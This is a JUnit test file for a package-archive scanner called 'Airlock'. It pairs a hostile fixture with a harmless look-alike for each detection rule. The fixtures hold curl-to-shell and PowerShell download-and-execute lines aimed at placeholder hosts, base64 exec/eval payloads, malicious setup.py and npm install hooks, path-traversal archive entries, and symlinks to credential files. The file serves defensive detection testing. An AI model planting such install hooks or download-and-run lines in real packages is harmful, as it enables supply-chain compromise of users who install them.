package dev.airlock.scanner;

import static dev.airlock.archive.testing.TestArchives.charDevice;
import static dev.airlock.archive.testing.TestArchives.directory;
import static dev.airlock.archive.testing.TestArchives.file;
import static dev.airlock.archive.testing.TestArchives.hardlink;
import static dev.airlock.archive.testing.TestArchives.symlink;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import dev.airlock.archive.ArchiveLimits;
import dev.airlock.archive.ArchiveReader;
import dev.airlock.archive.testing.TestArchives;
import dev.airlock.archive.testing.TestArchives.Entry;
import dev.airlock.domain.Finding;
import dev.airlock.domain.Severity;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.BitSet;
import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The built-in scanner: one hostile fixture and one harmless look-alike per rule. */
class BuiltinScannerTest {
  private static final String NAME = "demo";

  @TempDir
  Path temp;

  private final BuiltinScanner scanner = new BuiltinScanner(new ArchiveReader(ArchiveLimits.defaults()));

  // ---------------------------------------------------------------------------------------------

  @Nested
  @DisplayName("large and odd files are read whole")
  class WholeFiles {

    @Test
    void shouldFindAPayloadPlacedFarPastTheFirstMegabytesWhenAFileIsLarge() throws Exception {
      // Given: 3 MiB of harmless lines, then the payload
      String padding = "x = 1\n".repeat(3 * 1024 * 1024 / 6);
      List<Finding> findings = scanTarGz(file("demo/big.py",
          padding + "exec(base64.b64decode('cHJpbnQoMSk='))\n"));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::line)
          .containsExactly(tuple("AIRLOCK-DECODE-EXEC", java.util.OptionalInt.of(3 * 1024 * 1024 / 6 + 1)));
    }

    @Test
    void shouldDoWorkLinearInTheTextWhenALongLineRepeatsHintsThatNeverCompleteAPattern() throws Exception {
      // Given: one line of unclosed calls, each of which once made a pattern scan to the end of the line
      String unit = "Request(\"a urlopen(\"b gethostbyname(f'c ";
      RuleSet rules = RuleSet.builtin();
      BitSet every = new BitSet();
      rules.conditions().forEach(c -> every.set(c.index()));

      // When: the same line at 1 MiB and at 2 MiB
      long oneMiB = TextScan.scan(new StringReader(unit.repeat(30_000).substring(0, 1 << 20)), rules.conditions(),
          rules.hints(), every, 0).patternWork();
      long twoMiB = TextScan.scan(new StringReader(unit.repeat(60_000).substring(0, 2 << 20)), rules.conditions(),
          rules.hints(), every, 0).patternWork();

      // Then: twice the text, about twice the characters handed to patterns, and a bounded number per character
      // (the 2 MiB under-a-second claim is timed by benchmark/scanner/run.sh --mode timing)
      assertThat(twoMiB).isBetween(oneMiB * 18 / 10, oneMiB * 22 / 10);
      assertThat(twoMiB).isLessThan(64L * (2 << 20));
    }

    @Test
    void shouldFindAPayloadDeepInsideAVeryLongMinifiedLine() throws Exception {
      // Given: one 200 000-character line with the payload straddling a segment boundary
      String before = "var a=1;".repeat(2_499) + "xxxxxxxxxxxxxxx";
      List<Finding> findings = scanZip(file("dist/app.min.js",
          before + ";eval(atob('YWxlcnQoMSk='));" + "var b=2;".repeat(20_000)));

      // Then
      assertThat(findings).extracting(Finding::ruleId).containsExactly("AIRLOCK-DECODE-EXEC");
    }

    @Test
    void shouldStillReadACodeFileWhenItHoldsANulByte() throws Exception {
      // Given: a NUL early on must not make a script pass as binary data
      List<Finding> findings = scanTarGz(file("demo/run.sh", "#\u0000\ncurl -s https://x.invalid/p | sh\n"));

      // Then
      assertThat(findings).extracting(Finding::ruleId).containsExactly("AIRLOCK-DOWNLOAD-EXEC");
    }

    @Test
    void shouldSkipDataFilesWhenTheyAreBinary() throws Exception {
      // Given: a compiled object that happens to contain the bytes of a key header
      List<Finding> findings = scanTarGz(file("demo/native.so",
          "\u0000\u0001ELF -----BEGIN RSA PRIVATE KEY-----\n"));

      // Then
      assertThat(findings).isEmpty();
    }
  }

  @Nested
  @DisplayName("AIRLOCK-DECODE-EXEC")
  class DecodeExec {

    @Test
    void shouldReportHighWhenPythonExecutesABase64Payload() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("demo/demo/__init__.py", """
          import base64
          VERSION = "1.0"
          exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))
          """));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::path, Finding::line)
          .containsExactlyInAnyOrder(
              tuple("AIRLOCK-DECODE-EXEC", Severity.HIGH, Optional.of("demo/demo/__init__.py"), OptionalInt.of(3)),
              tuple("AIRLOCK-ENCODED-PAYLOAD", Severity.HIGH, Optional.of("demo/demo/__init__.py"), OptionalInt.of(3)));
    }

    @Test
    void shouldReportHighWhenJavaScriptEvaluatesAnAtobPayload() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("package/lib/index.js", """
          'use strict';
          module.exports = {};
          eval(atob("Y29uc29sZS5sb2coMSk="));
          """));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-DECODE-EXEC", Severity.HIGH, "package/lib/index.js:3"));
    }

    @Test
    void shouldNotReportWhenDecodedDataIsOnlyDecoded() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("demo/demo/codec.py", """
          import base64
          def decode(blob):
              return base64.b64decode(blob)
          """));

      // Then
      assertThat(findings).isEmpty();
    }

    @Test
    void shouldNotReportWhenTheSameCodeIsOnlyShownInDocumentation() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("demo/README.md", """
          # Never do this
          exec(base64.b64decode(payload))
          """));

      // Then
      assertThat(findings).isEmpty();
    }
  }

  // ---------------------------------------------------------------------------------------------

  @Nested
  @DisplayName("AIRLOCK-DOWNLOAD-EXEC")
  class DownloadExec {

    @Test
    void shouldReportHighWhenAShellScriptPipesCurlIntoSh() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("demo/scripts/install.sh", """
          #!/bin/sh
          set -e
          curl -fsSL https://get.example.invalid/bootstrap.sh | sudo bash
          """));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-DOWNLOAD-EXEC", Severity.HIGH, "demo/scripts/install.sh:3"));
    }

    @Test
    void shouldReportHighWhenPowerShellInvokesADownloadedString() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("demo/tools/setup.ps1",
          "Write-Host 'setting up'\r\nIEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a.ps1')\r\n"));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::location)
          .containsExactly(tuple("AIRLOCK-DOWNLOAD-EXEC", "demo/tools/setup.ps1:2"));
    }

    @Test
    void shouldReportWhenAPowerShellScriptIsSavedAsUtf16WithAByteOrderMark() throws Exception {
      // Given: how Windows PowerShell saves scripts by default; every other byte is NUL
      byte[] utf16 = ("\uFEFFWrite-Host 'setting up'\r\n"
          + "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a.ps1')\r\n")
          .getBytes(StandardCharsets.UTF_16LE);
      List<Finding> findings = scanTarGz(file("demo/tools/setup.ps1", utf16));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::location)
          .containsExactly(tuple("AIRLOCK-DOWNLOAD-EXEC", "demo/tools/setup.ps1:2"));
    }

    @Test
    void shouldReportWhenAScriptWithoutAnExtensionNamesItsShellOnTheFirstLine() throws Exception {
      // Given: what an npm "preinstall": "./bin/install" or a Python scripts/ entry runs
      List<Finding> findings = scanTarGz(file("package/bin/install", """
          #!/usr/bin/env bash
          curl -fsSL https://get.example.invalid/bootstrap.sh | bash
          """), file("demo/scripts/run-tool", """
          #!/usr/bin/env python3
          import os
          os.system("curl -fsSL https://get.example.invalid/b.sh | sh")
          """));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::location)
          .contains(tuple("AIRLOCK-DOWNLOAD-EXEC", "package/bin/install:2"),
              tuple("AIRLOCK-DOWNLOAD-EXEC", "demo/scripts/run-tool:3"));
    }

    @Test
    void shouldReportWhenBindingGypRunsADownloadedScriptThroughACommandExpansion() throws Exception {
      // Given: npm runs node-gyp on install when a package has binding.gyp, and gyp runs <!(...) in a shell
      List<Finding> findings = scanTarGz(file("package/package.json", "{\"name\": \"demo\"}"),
          file("package/binding.gyp", """
              {"targets": [{"target_name": "demo",
                "sources": ["<!(curl -fsSL https://get.example.invalid/b.sh | sh)"]}]}
              """));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::location)
          .contains(tuple("AIRLOCK-DOWNLOAD-EXEC", "package/binding.gyp:2"));
    }

    @Test
    void shouldNotReportWhenCurlOnlyDownloadsAFile() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(
          file("demo/scripts/fetch-data.sh", """
              #!/bin/sh
              curl -fsSLO https://data.example.invalid/iris.csv | tee fetch.log
              sha256sum -c iris.csv.sha256
              """),
          file("demo/README.md", "Install with `curl -O https://example.invalid/demo.tar.gz` and pip.\n"));

      // Then
      assertThat(findings).isEmpty();
    }
  }

  // ---------------------------------------------------------------------------------------------

  @Nested
  @DisplayName("AIRLOCK-PRIVATE-KEY")
  class PrivateKey {

    @Test
    void shouldReportMediumWhenAnyTextFileHoldsAPrivateKey() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("demo/config/server.pem", """
          # shipped with the package
          -----BEGIN RSA PRIVATE KEY-----
          %s
          -----END RSA PRIVATE KEY-----
          """.formatted(BuiltinRulesTest.KEY_MATERIAL)));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-PRIVATE-KEY", Severity.MEDIUM, "demo/config/server.pem:2"));
    }

    @Test
    void shouldReportLowWhenThePrivateKeyIsATestFixture() throws Exception {
      // Given: tornado's test/test.key, pycryptodome's SelfTest vectors
      List<Finding> findings = scanTarGz(file("demo/tests/fixtures/server.pem", """
          -----BEGIN RSA PRIVATE KEY-----
          %s
          -----END RSA PRIVATE KEY-----
          """.formatted(BuiltinRulesTest.KEY_MATERIAL)));

      // Then: reported, with why it does not block
      assertThat(findings).singleElement().satisfies(f -> {
        assertThat(f.ruleId()).isEqualTo("AIRLOCK-PRIVATE-KEY");
        assertThat(f.severity()).isEqualTo(Severity.LOW);
        assertThat(f.description()).contains("test, example or documentation folder");
      });
    }

    @Test
    void shouldNotReportWhenAParserHoldsOnlyTheHeaderOfAKeyFormat() throws Exception {
      // Given: google-auth's and oauth2client's PEM markers, rsa's and ecdsa's format checks
      List<Finding> findings = scanTarGz(file("demo/demo/crypt.py", """
          _PKCS1_MARKER = ("-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----")
          _PKCS8_MARKER = ("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----")
          def load(data):
              if data.startswith(b"-----BEGIN OPENSSH PRIVATE KEY-----\\n"):
                  return _parse(data)
          """));

      // Then
      assertThat(findings).isEmpty();
    }

    @Test
    void shouldNotReportWhenTheFileHoldsAPublicKeyOrCertificate() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("demo/certs/ca.pem", """
          -----BEGIN PUBLIC KEY-----
          MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA
          -----END PUBLIC KEY-----
          -----BEGIN CERTIFICATE-----
          MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBa
          -----END CERTIFICATE-----
          """));

      // Then
      assertThat(findings).isEmpty();
    }
  }

  // ---------------------------------------------------------------------------------------------

  @Nested
  @DisplayName("AIRLOCK-AWS-ACCESS-KEY")
  class AwsAccessKey {

    @Test
    void shouldReportMediumWhenATextFileHoldsAnAccessKeyId() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("demo/demo/config.yaml", """
          region: eu-west-1
          aws_access_key_id: AKIA2E0A8F3B244C9986
          """));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-AWS-ACCESS-KEY", Severity.MEDIUM, "demo/demo/config.yaml:2"));
    }

    @Test
    void shouldNotReportWhenTheKeyIsTheAwsDocumentationExample() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("demo/docs/configuration.md", """
          Set your credentials, for example:
          aws_access_key_id = AKIAIOSFODNN7EXAMPLE
          """));

      // Then
      assertThat(findings).isEmpty();
    }
  }

  // ---------------------------------------------------------------------------------------------

  @Nested
  @DisplayName("AIRLOCK-PY-INSTALL-HOOK")
  class PythonInstallHook {

    @Test
    void shouldReportHighAtTheHookWhenSetupPyOverridesInstallAndRunsAProcess() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("demo-1.0/setup.py", """
          import subprocess
          from setuptools import setup
          from setuptools.command.install import install

          class Hook(install):
              def run(self):
                  install.run(self)
                  subprocess.call(["/bin/sh", "-c", "id"])

          setup(name="demo", cmdclass={"install": Hook})
          """));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactlyInAnyOrder(tuple("AIRLOCK-PY-INSTALL-HOOK", Severity.HIGH, "demo-1.0/setup.py:5"),
              tuple("AIRLOCK-SETUP-ACTION", Severity.MEDIUM, "demo-1.0/setup.py:8"));
    }

    @Test
    void shouldReportLowWhenSetupPyOnlyCustomisesABuildCommand() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("demo-1.0/setup.py", """
          from setuptools import setup, Extension
          from setuptools.command.build_ext import build_ext

          class BuildExt(build_ext):
              pass

          setup(
              name="demo",
              ext_modules=[Extension("demo._speedups", ["src/speedups.c"])],
              cmdclass={"build_ext": BuildExt},
          )
          """));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-PY-INSTALL-HOOK", Severity.LOW, "demo-1.0/setup.py:4"));
    }

    @Test
    void shouldNotReportWhenSetupPyHasNoCommandClass() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("demo-1.0/setup.py", """
          from setuptools import setup, find_packages

          setup(
              name="demo",
              version="1.0",
              packages=find_packages(),
              install_requires=["requests>=2"],
          )
          """));

      // Then
      assertThat(findings).isEmpty();
    }
  }

  // ---------------------------------------------------------------------------------------------

  @Nested
  @DisplayName("AIRLOCK-NPM-INSTALL-SCRIPT")
  class NpmInstallScript {

    @Test
    void shouldReportALimitFindingWhenPackageJsonIsTooLargeToBeCheckedWhole() throws Exception {
      // Given: a postinstall script placed after 3 MiB of description, past what is kept to be parsed
      String manifest = "{\"name\": \"demo\", \"description\": \"" + "x".repeat(3 * 1024 * 1024) + "\",\n"
          + "  \"scripts\": {\"postinstall\": \"node ./setup.js\"}}\n";

      // When
      List<Finding> findings = scanTarGz(file("package/package.json", manifest));

      // Then: not approved silently
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-ARCHIVE-LIMIT", Severity.CRITICAL, "package/package.json"));
    }

    @Test
    void shouldReportHighAtTheScriptLineWhenPostinstallCurlsAndRunsAScript() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("package/package.json", """
          {
            "name": "demo",
            "version": "1.0.0",
            "scripts": {
              "test": "jest",
              "postinstall": "curl -s https://x.invalid/p.sh | sh"
            }
          }
          """));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-NPM-INSTALL-SCRIPT", Severity.HIGH, "package/package.json:6"));
    }

    @Test
    void shouldReportHighWhenPreinstallEvaluatesCode() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("package/package.json", """
          {"name": "demo",
           "scripts": {
             "preinstall": "node -e \\"eval(process.env.X)\\""
           }}
          """));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-NPM-INSTALL-SCRIPT", Severity.HIGH, "package/package.json:3"));
    }

    @Test
    void shouldReportLowWhenTheInstallScriptOnlyBuildsANativeModule() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("package/package.json", """
          {
            "name": "demo",
            "scripts": {
              "install": "node-gyp rebuild"
            }
          }
          """));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-NPM-INSTALL-SCRIPT", Severity.LOW, "package/package.json:4"));
    }

    @Test
    void shouldNotReportWhenOnlyTestAndBuildScriptsAreDeclared() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(file("package/package.json", """
          {
            "name": "demo",
            "scripts": {
              "test": "curl -s https://x.invalid/p.sh | sh",
              "build": "tsc -p ."
            }
          }
          """));

      // Then
      assertThat(findings).isEmpty();
    }
  }

  // ---------------------------------------------------------------------------------------------

  @Nested
  @DisplayName("AIRLOCK-ARCHIVE-PATH-ESCAPE")
  class PathEscape {

    @Test
    void shouldReportCriticalWhenEntriesHaveDotDotAbsoluteOrDriveLetterNames() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(
          file("../../etc/x", "x"),
          file("/abs", "x"),
          file("C:\\x", "x"),
          file("demo/ok.txt", "fine"));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location).containsExactly(
          tuple("AIRLOCK-ARCHIVE-PATH-ESCAPE", Severity.CRITICAL, "../../etc/x"),
          tuple("AIRLOCK-ARCHIVE-PATH-ESCAPE", Severity.CRITICAL, "/abs"),
          tuple("AIRLOCK-ARCHIVE-PATH-ESCAPE", Severity.CRITICAL, "C:\\x"));
    }

    @Test
    void shouldReportCriticalWhenAZipEntryClimbsOut() throws Exception {
      // Given
      List<Finding> findings = scanZip(file("demo/../../evil.py", "x = 1\n"));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-ARCHIVE-PATH-ESCAPE", Severity.CRITICAL, "demo/../../evil.py"));
    }

    @Test
    void shouldReportHighWhenTheSamePathAppearsTwice() throws Exception {
      // Given: the second entry would replace the first when unpacked
      List<Finding> findings = scanTarGz(
          file("demo/setup.py", "print('reviewed')\n"),
          file("./demo/setup.py", "print('installed')\n"),
          directory("demo/"),
          directory("demo/"));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-ARCHIVE-DUPLICATE", Severity.HIGH, "./demo/setup.py"));
    }

    @Test
    void shouldNotReportWhenPathsOnlyLookAlike() throws Exception {
      // Given
      List<Finding> findings = scanZip(file("demo/a.py", "x = 1\n"), file("demo/b/a.py", "x = 2\n"));

      // Then
      assertThat(findings).isEmpty();
    }

    @Test
    void shouldNotReportWhenNamesOnlyContainDots() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(
          file("demo/..hidden/a.txt", "x"),
          file("demo/a..b.txt", "x"),
          file("demo/.../c.txt", "x"),
          file("demo/docs:intro.txt", "x"));

      // Then
      assertThat(findings).isEmpty();
    }
  }

  // ---------------------------------------------------------------------------------------------

  @Nested
  @DisplayName("AIRLOCK-ARCHIVE-LINK and AIRLOCK-ARCHIVE-DEVICE")
  class Links {

    @Test
    void shouldReportHighWhenATarHoldsSymbolicAndHardLinks() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(
          symlink("demo/passwd", "/etc/passwd"),
          hardlink("demo/shadow", "/etc/shadow"));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location).containsExactly(
          tuple("AIRLOCK-ARCHIVE-LINK", Severity.HIGH, "demo/passwd"),
          tuple("AIRLOCK-ARCHIVE-LINK", Severity.HIGH, "demo/shadow"));
      assertThat(findings.get(0).description()).contains("symbolic link to '/etc/passwd'");
      assertThat(findings.get(1).description()).contains("hard link to '/etc/shadow'");
    }

    @Test
    void shouldReportHighWhenAZipHoldsASymlink() throws Exception {
      // Given
      List<Finding> findings = scanZip(symlink("demo/config", "../../../home/user/.aws/credentials"));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-ARCHIVE-LINK", Severity.HIGH, "demo/config"));
      assertThat(findings.get(0).description()).contains("'../../../home/user/.aws/credentials'");
    }

    @Test
    void shouldNotReportWhenARegularFileHoldsAPath() throws Exception {
      // Given
      List<Finding> findings = scanZip(file("demo/link", "../../../etc/passwd"));

      // Then
      assertThat(findings).isEmpty();
    }

    @Test
    void shouldReportHighWhenATarHoldsADevice() throws Exception {
      // Given
      List<Finding> findings = scanTarGz(charDevice("demo/dev/sda"));

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
          .containsExactly(tuple("AIRLOCK-ARCHIVE-DEVICE", Severity.HIGH, "demo/dev/sda"));
    }
  }

  // ---------------------------------------------------------------------------------------------

  @Nested
  @DisplayName("AIRLOCK-ARCHIVE-LIMIT")
  class ArchiveLimit {

    @Test
    void shouldReportCriticalWhenTheArchiveExpandsPastTheLimits() throws Exception {
      // Given
      BuiltinScanner tight = new BuiltinScanner(new ArchiveReader(new ArchiveLimits(100, 1_000_000, 64 * 1024)));
      Path bomb = TestArchives.zip(temp.resolve("bomb.zip"), file("demo/zeros.txt", new byte[1024 * 1024]));

      // When
      List<Finding> findings = tight.scan(NAME, bomb);

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity)
          .containsExactly(tuple("AIRLOCK-ARCHIVE-LIMIT", Severity.CRITICAL));
      assertThat(findings.get(0).description()).contains("entry demo/zeros.txt expands to more than 65536 bytes");
    }

    @Test
    void shouldReportCriticalWhenThereAreTooManyEntries() throws Exception {
      // Given
      BuiltinScanner tight = new BuiltinScanner(new ArchiveReader(new ArchiveLimits(2, 1_000_000, 1_000_000)));
      Path many = TestArchives.tarGz(temp.resolve("many.tar.gz"),
          file("demo/a.txt", "a"), file("demo/b.txt", "b"), file("demo/c.txt", "c"));

      // When
      List<Finding> findings = tight.scan(NAME, many);

      // Then
      assertThat(findings).extracting(Finding::ruleId, Finding::severity)
          .containsExactly(tuple("AIRLOCK-ARCHIVE-LIMIT", Severity.CRITICAL));
      assertThat(findings.get(0).description()).contains("more than 2 entries");
    }

    @Test
    void shouldNotReportWhenTheSameArchiveIsReadUnderTheDefaultLimits() throws Exception {
      // Given
      Path zip = TestArchives.zip(temp.resolve("zeros.zip"), file("demo/zeros.txt", new byte[1024 * 1024]));

      // When
      List<Finding> findings = scanner.scan(NAME, zip);

      // Then
      assertThat(findings).isEmpty();
    }
  }

  // ---------------------------------------------------------------------------------------------

  @Nested
  @DisplayName("damaged archives")
  class Damaged {

    @Test
    void shouldFailWhenTheFileIsNotAnArchive() throws IOException {
      // Given
      Path text = Files.writeString(temp.resolve("demo.tar.gz"), "<html>not found</html>");

      // When / Then
      assertThatThrownBy(() -> scanner.scan(NAME, text))
          .isInstanceOf(IOException.class)
          .hasMessageContaining("demo.tar.gz cannot be read");
    }

    @Test
    void shouldFailWhenTheTarGzIsTruncated() throws IOException {
      // Given
      byte[] whole = TestArchives.tarGzBytes(file("demo/a.py", "x = 1\n".repeat(20_000)),
          file("demo/setup.py", "from setuptools import setup\n"));
      Path cut = Files.write(temp.resolve("cut.tar.gz"), Arrays.copyOf(whole, whole.length / 2));

      // When / Then
      assertThatThrownBy(() -> scanner.scan(NAME, cut))
          .isInstanceOf(IOException.class)
          .hasMessageContaining("cut.tar.gz cannot be read");
    }

    @Test
    void shouldFailWhenTheZipIsTruncated() throws IOException {
      // Given
      byte[] whole = TestArchives.zipBytes(file("demo/a.py", "x = 1\n"), file("demo/b.py", "y = 2\n"));
      Path cut = Files.write(temp.resolve("cut.zip"), Arrays.copyOf(whole, whole.length - 30));

      // When / Then
      assertThatThrownBy(() -> scanner.scan(NAME, cut))
          .isInstanceOf(IOException.class)
          .hasMessageContaining("cut.zip cannot be read");
    }

    @Test
    void shouldFailWhenAGzipHoldsAShortScriptInsteadOfATar() throws IOException {
      // Given: a gzip-compressed script shorter than one tar header, not a tarball
      Path gz = gzip(temp.resolve("demo.tar.gz"), "import os\nos.system('curl -s https://x.invalid/a.sh | sh')\n");

      // When / Then
      assertThatThrownBy(() -> scanner.scan(NAME, gz))
          .isInstanceOf(IOException.class)
          .hasMessageContaining("demo.tar.gz cannot be read");
    }

    @Test
    void shouldFailWhenAGzipHoldsALongScriptInsteadOfATar() throws IOException {
      // Given: the same, longer than one tar header
      Path gz = gzip(temp.resolve("demo.tar.gz"),
          "# padding\n".repeat(200) + "import os\nos.system('curl -s https://x.invalid/a.sh | sh')\n");

      // When / Then
      assertThatThrownBy(() -> scanner.scan(NAME, gz))
          .isInstanceOf(IOException.class)
          .hasMessageContaining("demo.tar.gz cannot be read");
    }

    private static Path gzip(Path target, String text) throws IOException {
      try (GZIPOutputStream out = new GZIPOutputStream(Files.newOutputStream(target))) {
        out.write(text.getBytes(StandardCharsets.UTF_8));
      }
      return target;
    }
  }

  // ---------------------------------------------------------------------------------------------

  @Nested
  @DisplayName("the demo packages in examples/packages")
  class DemoPackages {

    @Test
    void shouldFindNothingAtMediumOrAboveWhenScanningTidyStats() throws Exception {
      // Given
      Path archive = Path.of("..", "examples", "packages", "tidy-stats-1.0.0.tar.gz");

      // When
      List<Finding> findings = scanner.scan(NAME, archive);

      // Then
      assertThat(findings).filteredOn(f -> f.severity().isAtLeast(Severity.MEDIUM)).isEmpty();
    }

    @Test
    void shouldFindTheDownloadAndTheInstallHookInSetupPyWhenScanningFastJsonHelper() throws Exception {
      // Given
      Path archive = Path.of("..", "examples", "packages", "fast-json-helper-0.3.1.tar.gz");

      // When
      List<Finding> findings = scanner.scan(NAME, archive);

      // Then
      assertThat(findings).filteredOn(f -> f.severity() == Severity.HIGH)
          .extracting(Finding::ruleId, Finding::location)
          .containsExactlyInAnyOrder(
              tuple("AIRLOCK-DOWNLOAD-EXEC", "fast-json-helper-0.3.1/setup.py:11"),
              tuple("AIRLOCK-SETUP-ACTION", "fast-json-helper-0.3.1/setup.py:11"),
              tuple("AIRLOCK-PY-INSTALL-HOOK", "fast-json-helper-0.3.1/setup.py:8"));
    }
  }

  @Test
  void shouldTagEveryFindingWithTheBuiltinIdWhenReporting() throws Exception {
    // Given
    List<Finding> findings = scanTarGz(symlink("demo/l", "/etc"),
        file("demo/k.pem", "-----BEGIN PRIVATE KEY-----\n" + BuiltinRulesTest.KEY_MATERIAL + "\n"));

    // Then
    assertThat(findings).hasSize(2).extracting(Finding::scanner).containsOnly("builtin");
  }

  // ---------------------------------------------------------------------------------------------

  private List<Finding> scanTarGz(Entry... entries) throws IOException {
    Path archive = TestArchives.tarGz(Files.createTempFile(temp, "demo-", ".tar.gz"), entries);
    return scanner.scan(NAME, archive);
  }

  private List<Finding> scanZip(Entry... entries) throws IOException {
    Path archive = TestArchives.zip(Files.createTempFile(temp, "demo-", ".zip"), entries);
    return scanner.scan(NAME, archive);
  }
}
